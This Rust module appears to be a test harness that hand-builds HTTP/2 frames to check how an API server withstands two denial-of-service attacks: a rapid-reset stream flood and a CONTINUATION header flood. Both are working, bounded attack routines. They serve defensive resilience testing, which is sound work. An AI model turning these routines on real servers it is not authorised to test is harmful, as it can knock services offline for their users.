//! A raw HTTP/2 client over TLS for the API's abuse rows: frames built by hand (rapid
//! reset, CONTINUATION floods), every read bounded.

use std::time::Duration;

use super::drawbridge::Drawbridge;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const CONTINUATION: u8 = 0x9;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
/// On SETTINGS and PING.
pub const ACK: u8 = 0x1;

pub fn frame(out: &mut Vec<u8>, ty: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(ty);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// HPACK for GET https://authority/healthz, literal fields never indexed.
pub fn get_healthz(authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87]; // :method GET, :scheme https
    b.push(0x04); // :path, literal without indexing
    b.push(8);
    b.extend_from_slice(b"/healthz");
    b.push(0x01); // :authority
    b.push(authority.len() as u8);
    b.extend_from_slice(authority.as_bytes());
    b
}

/// What the server did with the connection.
#[derive(Debug, Default)]
pub struct Seen {
    pub goaway: Option<u32>,
    pub responses: usize,
    pub resets: usize,
    pub closed: bool,
}

pub async fn connect(d: &Drawbridge) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    let cfg = d.tls_client(&[b"h2"]);
    let connector = tokio_rustls::TlsConnector::from(cfg);
    let tcp = tokio::net::TcpStream::connect(d.api).await.unwrap();
    let tls = connector
        .connect(rustls_pki_types::ServerName::from(d.api.ip()), tcp)
        .await
        .unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    tls
}

/// Reads frames until EOF, an error or `limit`, counting what matters.
pub async fn read_all(mut r: impl tokio::io::AsyncRead + Unpin, limit: Duration) -> Seen {
    let mut seen = Seen::default();
    let deadline = tokio::time::Instant::now() + limit;
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        let n = match tokio::time::timeout_at(deadline, r.read(&mut chunk)).await {
            Err(_) => return seen,
            Ok(Ok(0)) | Ok(Err(_)) => {
                seen.closed = true;
                return seen;
            }
            Ok(Ok(n)) => n,
        };
        buf.extend_from_slice(&chunk[..n]);
        while buf.len() >= 9 {
            let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
            if buf.len() < 9 + len {
                break;
            }
            let ty = buf[3];
            let payload = &buf[9..9 + len];
            match ty {
                HEADERS => seen.responses += 1,
                RST_STREAM => seen.resets += 1,
                GOAWAY if payload.len() >= 8 => {
                    seen.goaway = Some(u32::from_be_bytes([
                        payload[4], payload[5], payload[6], payload[7],
                    ]));
                }
                _ => {}
            }
            buf.drain(..9 + len);
        }
    }
}

/// Rapid reset: HEADERS then RST_STREAM(CANCEL) on new streams, in batches, for at
/// most `streams` streams or `limit`. Returns (streams sent, what came back).
pub async fn rapid_reset(d: &Drawbridge, streams: u32, limit: Duration) -> (u32, Seen) {
    let tls = connect(d).await;
    let (r, mut w) = tokio::io::split(tls);
    let reader = tokio::spawn(read_all(r, limit + Duration::from_secs(2)));
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    w.write_all(&out).await.unwrap();
    let block = get_healthz(&d.api.to_string());
    let started = tokio::time::Instant::now();
    let mut sent = 0u32;
    'outer: while sent < streams && started.elapsed() < limit {
        let mut batch = Vec::new();
        for _ in 0..100 {
            let id = 1 + 2 * sent;
            frame(&mut batch, HEADERS, END_STREAM | END_HEADERS, id, &block);
            frame(&mut batch, RST_STREAM, 0, id, &8u32.to_be_bytes());
            sent += 1;
        }
        match tokio::time::timeout(Duration::from_secs(2), w.write_all(&batch)).await {
            Ok(Ok(())) => {}
            _ => break 'outer,
        }
    }
    let _ = w.shutdown().await;
    (sent, reader.await.unwrap())
}

/// CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames of
/// 16 KiB of header fields, at most `total` bytes or `limit`. Returns (bytes sent,
/// what came back).
pub async fn continuation_flood(d: &Drawbridge, total: usize, limit: Duration) -> (usize, Seen) {
    let tls = connect(d).await;
    let (r, mut w) = tokio::io::split(tls);
    let reader = tokio::spawn(read_all(r, limit + Duration::from_secs(2)));
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    frame(&mut out, HEADERS, 0, 1, &get_healthz(&d.api.to_string()));
    w.write_all(&out).await.unwrap();
    // Literal header fields, new names, never indexed: "x-flood-NNNN: aaa...".
    let mut fragment = Vec::new();
    let mut i = 0u32;
    while fragment.len() < 16 * 1024 - 200 {
        let name = format!("x-flood-{i:06}");
        fragment.push(0x10);
        fragment.push(name.len() as u8);
        fragment.extend_from_slice(name.as_bytes());
        fragment.push(100);
        fragment.extend(std::iter::repeat_n(b'a', 100));
        i += 1;
    }
    let mut one = Vec::new();
    frame(&mut one, CONTINUATION, 0, 1, &fragment);
    let started = tokio::time::Instant::now();
    let mut sent = 0usize;
    while sent < total && started.elapsed() < limit {
        match tokio::time::timeout(Duration::from_secs(2), w.write_all(&one)).await {
            Ok(Ok(())) => sent += one.len(),
            _ => break,
        }
    }
    let _ = w.shutdown().await;
    (sent, reader.await.unwrap())
}
